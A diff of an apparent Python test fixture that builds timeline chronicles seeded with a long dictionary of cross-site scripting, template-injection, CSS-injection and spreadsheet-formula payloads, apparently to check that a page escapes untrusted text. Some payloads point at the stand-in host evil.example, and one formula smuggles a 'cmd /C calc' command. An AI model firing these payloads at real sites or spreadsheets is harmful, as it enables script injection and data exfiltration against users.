@@ -1,144 +1,119 @@
-"""Texts that try to break out of the page, each of another kind, and chronicles that carry them in every text field.
-
-A payload that runs sets ``window.hit``, pops up a dialog, asks for an address or adds an element: the tests look for all four.
-"""
+"""Texts that try to break out of the page, by name; each calls ``hit`` if it runs. And a chronicle with one in every place."""
 
 from __future__ import annotations
 
-from collections.abc import Iterable
-from datetime import date, timedelta
-
+import samples
 from samples import Maker, day, interval
 
-from timeline.model import (
-    Chronicle,
-    Conflict,
-    Dating,
-    Event,
-    Evidence,
-    Participation,
-    Place,
-    Span,
-    Status,
-    TimeExpression,
-    Version,
-)
+from timeline.model import Chronicle, Conflict, Dating, Span, TimeExpression, Version
 
-RUN = "window.hit=1"
-
+HIT = "window.__hit=1"
 PAYLOADS = {
-    # Markup that runs a script
-    "script element": f"<script>{RUN}</script>",
-    "end of script": f"</script><script>{RUN}</script>",
-    "end of script, odd case and blank": f"</ScRiPt\t\n x><script>{RUN}</script>",
-    "comment and script state": f"<!--<script>{RUN}//",
-    "end of comment": f"--><img src=x onerror={RUN}>",
-    "broken comment end": f"--!><svg onload={RUN}>",
-    "image that fails": f"<img src=x onerror={RUN}>",
-    "image without blanks": f"<img/src='x'/onerror={RUN}//",
-    "unclosed tag": f"<img src=x onerror={RUN} alt=",
-    "vector image": f"<svg/onload={RUN}>",
-    "animation in a vector image": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
-    "foreign object": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
-    "use of a data address": "<svg><use href='data:image/svg+xml,<svg id=x><script>hit=1</script></svg>#x'></use></svg>",
-    "formula": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
-    "frame with a document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
-    "object and embed": "<object data='data:text/html,<script>hit=1</script>'></object><embed src=//evil.example/x>",
-    "details that open": f"<details open ontoggle={RUN}>x",
-    "field that takes the focus": f"<input autofocus onfocus={RUN}>",
-    "custom element": f"<x-y onanimationstart={RUN} style=animation-name:x>",
-    "video source": f"<video><source onerror={RUN}></video>",
-    "template and noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
-    "base and refresh": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
-    "form that sends": "<form action=//evil.example><button>x</button></form>",
-    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
-    # Out of an attribute, a title, a style, a text area
-    "double quote": f'" onmouseover="{RUN}" x="',
-    "single quote": f"' autofocus onfocus='{RUN}' x='",
-    "back tick": f"`onmouseover=`{RUN}`",
-    "end of title": f"</title><script>{RUN}</script>",
-    "end of style": f"</style><img src=x onerror={RUN}>",
-    "end of text area": f"</textarea></select></option><img src=x onerror={RUN}>",
-    "style rule": "}*{background:url(//evil.example/x)}@import '//evil.example/y';:root{--ink:red",
-    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62; &quot;&apos; &NewLine;",
-    # Addresses
-    "javascript": f"javascript:{RUN}",
-    "javascript with odd blanks": f" \x01java\tscr\nipt:{RUN}",
-    "javascript in entities": f"&#106;avascript&colon;{RUN}",
-    "javascript after the web": f"javascript://https://x.example/%0A{RUN}",
-    "data": f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=#{RUN}",
-    "vbscript": f"vbscript:{RUN}",
-    "blob and file": "blob:https://x.example/1 file:///etc/passwd",
-    "web address with a handler": f'https://x.example/"onmouseover="{RUN}"><img src=x onerror={RUN}>',
-    "address without scheme": "//evil.example/pixel.png",
-    "anchor": f"#picked=<img src=x onerror={RUN}>&event=<svg onload={RUN}>&mode=<script>",
-    "words of the address": "mode=table&lanes=actor&event=ev_1&from=0&to=1&actor=x&path=y&map-view=1_2_3#%00%zz&amp;",
-    # Out of data and templates
-    "end of JSON": f'"}}]}};{RUN};//',
-    "back slashes": "\\\" \\u003cimg\\u003e \\x3cscript\\x3e \\",
-    "line separators": f"a\u2028{RUN}\u2029b\x85c",
-    "template literal": f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
-    "curly template": "{{constructor.constructor('window.hit=1')()}} {{data}} {{script}} {{title}} {0} %s",
-    "replacement pattern": "$& $1 $` $' $<x> \\1 \\g<0>",
-    "options of the network": f'{{"physics": true, "nodes": {{"shape": "image", "image": "//evil.example/x"}}, "title": "{RUN}"}}',
-    "palette": f"red;background:url(javascript:{RUN}) #d8522f expression({RUN})",
-    # Names with a meaning in the language
+    "script": f"<script>{HIT}</script>",
+    "script upper case": f"<SCRIPT>{HIT}</SCRIPT>",
+    "script ends": f"</script><script>{HIT}</script>",
+    "script ends with space": f"</script ><script>{HIT}</script>",
+    "script ends in JSON": f'"}}</script><script>{HIT}//',
+    "half a script end": "</scr",
+    "comment opens": "<!--",
+    "comment opens a script": f"<!--<script>{HIT}",
+    "comment ends": f"--><script>{HIT}</script>",
+    "CDATA": f"]]><script>{HIT}</script><![CDATA[",
+    "style ends": f"</style><script>{HIT}</script>",
+    "title ends": f"</title><script>{HIT}</script>",
+    "textarea ends": f"</textarea><script>{HIT}</script>",
+    "noscript": f"<noscript><p title='</noscript><script>{HIT}</script>'>",
+    "image": f"<img src=x onerror={HIT}>",
+    "image with slash": f"<img/src=x/onerror={HIT}>",
+    "image in quotes": f"\"><img src=x onerror='{HIT}'>",
+    "image in single quotes": f'\'><img src=x onerror="{HIT}">',
+    "svg": f"<svg onload={HIT}>",
+    "svg script": f"<svg><script>{HIT}</script></svg>",
+    "svg animation": f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
+    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
+    "iframe": f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
+    "iframe address": f'<iframe src="javascript:parent.{HIT}">',
+    "object": f"<object data='javascript:{HIT}'>",
+    "embed": f"<embed src='javascript:{HIT}'>",
+    "link": "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "base": "<base href='https://evil.example/'>",
+    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "form": f"<form action='javascript:{HIT}'><button>x</button></form>",
+    "details": f"<details open ontoggle={HIT}>",
+    "video": f"<video><source onerror={HIT}></video>",
+    "body": f"<body onload={HIT}>",
+    "focus": f"<input autofocus onfocus={HIT}>",
+    "style attribute": "<p style='background:url(https://evil.example/x)'>",
+    "style": "<style>*{background:url(https://evil.example/x)!important}</style>",
+    "css": "}*{display:none}/*",
+    "javascript link": f"javascript:{HIT}",
+    "javascript link upper case": f"JaVaScRiPt:{HIT}",
+    "javascript link with tab": f"java\tscript:{HIT}",
+    "javascript link with newline": f"\njavascript:{HIT}",
+    "javascript link in entities": f"&#106;avascript:{HIT}",
+    "javascript link behind https": f"https:javascript:{HIT}",
+    "data link": f"data:text/html,<script>opener.{HIT}</script>",
+    "vbscript link": "vbscript:msgbox(1)",
+    "href in a title": f"<a href='javascript:{HIT}'>href</a>",
+    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt;",
+    "escapes": f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
+    "template literal": f"${{{HIT}}}`",
+    "jinja": "{{ 7*7 }}{% raw %}{{config}}",
+    "own template": "{{script}}{{data}}{{passages}}",
+    "angular": f"{{{{constructor.constructor('{HIT}')()}}}}",
+    "line separators": f"\u2028{HIT}\u2029//",
+    "JSON breaks": '"}],"x":[{"\\',
+    "backslashes": "\\\\\\",
+    "null and controls": "\x00\x01\x07\x08\x0b\x1b[31m\x7f\x85",
+    "byte order marks": "\ufeff\ufffe",
+    "lone surrogate": "\ud800 and \udfff",
+    "right to left": f"\u202e>tpircs/<{HIT}>tpircs<\u202c",
+    "combining": "Z\u0351\u036b\u0343\u036a" * 40,
+    "very long word": "A" * 5000,
+    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\u200d\u2620\ufe0f",
     "prototype": "__proto__",
     "constructor": "constructor",
-    "method of all objects": "toString",
+    "has own property": "hasOwnProperty",
+    "an id of the page": "timeline-view",
     "number": "0",
-    # Characters
-    "zero and control characters": "a\x00b\x07c\x08d\x1b[31me\x7ff\r\ng\rh",
-    "right to left": "\u202e\u2066gnp.exe \u05d0\u0628 \u2069\u202c\u200f",
-    "lone surrogates": "\ud800 x \udfff",
-    "not characters, zero width, marks": "\ufeff\ufffe\uffff\u200b" + "Z" + "\u0335\u0489" * 60,
-    "very long word": "W" * 3000,
-}  # fmt: skip
+    "method of all objects": "toString",
+    "broken comment end": f"--!><svg onload={HIT}>",
+    "unclosed tag": f"<img src=x onerror={HIT} alt=",
+    "custom element": f"<x-y onanimationstart={HIT} style=animation-name:x>",
+    "use of a data address": "<svg><use href='data:image/svg+xml,<svg id=x><script>hit=1</script></svg>#x'></use></svg>",
+    "javascript link with control character": f" \x01javascript:{HIT}",
+    "javascript link like the web": f"javascript://https://x.example/%0A{HIT}",
+    "link without scheme": "//evil.example/pixel.png",
+    "link with a handler": f'https://x.example/"onmouseover="{HIT}"><img src=x onerror={HIT}>',
+    "replacement patterns": "$& $1 $` $' $<x> \\1 \\g<0> %s {0}",
+    "options of the network": '{"physics": true, "nodes": {"shape": "image", "image": "//evil.example/x"}}',
+    "palette": f"red;background:url(javascript:{HIT}) #d8522f expression({HIT})",
+    "view of the page": "mode=table&lanes=actor&event=ev_1&from=0&to=1&actor=x&path=y&map-view=1_2_3#%00%zz&amp;",
+    "formula of a spreadsheet": '=HYPERLINK("https://evil.example/"&A1)',
+    "formula behind a blank": "\u00a0\u200b\t+cmd|' /C calc'!A0",
+    "nothing": " ",
+}
 
 
-def chronicle_with(*payloads: str) -> Chronicle:
-    """An event for each payload, which stands in every text field of the event and of all that it points to."""
-    articles, actors, places, events = [], {}, {}, []
-    for number, payload in enumerate(payloads):
-        make = Maker()
-        make.article(payload, [payload], date=day("2026-01-31"), title=payload, url=payload, source=payload)
-        make.actor(payload, payload, payload, names=(payload,), country=payload)
-        place = Place(
-            payload, payload, payload, payload, lat=10.0 + number, lon=20.0 + number, names=(payload,), point_of=payload
+def chronicle_with(payloads: list[str]) -> Chronicle:
+    """An event for each payload, which stands in each of its texts: ids, names, labels, sentences, addresses, dates."""
+    make = Maker()
+    for number, text in enumerate(payloads):
+        sentence = f"{text} struck {text} on Monday."
+        make.article(text, [sentence], date=day("2026-01-08"), title=text, url=text, source=text)
+        make.article(f"{text} 2", [sentence], date=day("2026-01-09"), title=text, url=f"https://x.example/{text}", source=text)
+        make.actor(text, text, text, names=(text,))
+        make.place(text, text, kind=text, country=text, lat=1.0 + number, lon=2.0 + number)
+        make.event(
+            f"{text.replace('/', '|')}/{text.replace('/', '|')}",
+            text,
+            [(text, sentence, "struck"), (f"{text} 2", sentence, text)],
+            [(text, "agent")],
+            [text],
+            interval(text, "2026-01-05", "2026-01-05"),
+            conflicts=(Conflict("place", (Version(text, (text,)), Version(text, (f"{text} 2",)))),),
         )
-        events.append(event_of(payload, day("2026-01-01") + timedelta(days=number), follows=payloads[number - 1]))
-        articles += make.articles.values()
-        actors |= make.actors
-        places[payload] = place
-    return Chronicle(tuple(articles), tuple(events), actors, places, warnings=tuple(payloads))
-
-
-def event_of(payload: str, when: date, follows: str) -> Event:
-    whole = Span(0, len(payload))
-    return Event(
-        id=payload,
-        type=payload,
-        family=payload,
-        label=payload,
-        interval=interval(payload, str(when), str(when)),
-        not_before=None,
-        not_after=None,
-        when=Dating(
-            payload, TimeExpression(whole, payload, "DATE", payload, anchor="2026-01-31", anchor_is="text", rule=payload)
-        ),
-        status=Status.OCCURRED,
-        reported=False,
-        count=None,
-        main=True,
-        actors=(Participation(payload, "agent"), Participation(payload, "target", sure=False)),
-        places=(payload,),
-        mentions=(Evidence(payload, whole, payload, whole),),
-        conflicts=(Conflict("place", (Version(payload, (payload,)), Version(payload, (payload,)))),),
-        plover=payload,
-        follows=(follows,),
-    )
-
-
-def groups(size: int) -> Iterable[list[str]]:
-    texts = list(PAYLOADS.values())
-    return [texts[at : at + size] for at in range(0, len(texts), size)]
+        about = TimeExpression(Span(0, len(text)), text, "DATE", "", anchor=text, anchor_is="text", rule=text)
+        make.events[-1] = samples.replace(make.events[-1], when=Dating(text, about), id=f"{text}-{number}")
+    return make.chronicle()
